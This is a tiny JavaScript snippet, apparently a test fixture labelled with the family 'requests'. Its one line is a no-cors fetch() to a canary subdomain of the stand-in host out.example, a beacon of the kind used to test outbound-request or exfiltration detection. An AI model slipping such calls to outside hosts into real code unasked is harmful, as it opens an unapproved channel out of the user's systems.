/* {"family": "requests"} */
fetch(`https://${'canary'.repeat(8)}.out.example/`, { mode: 'no-cors' });
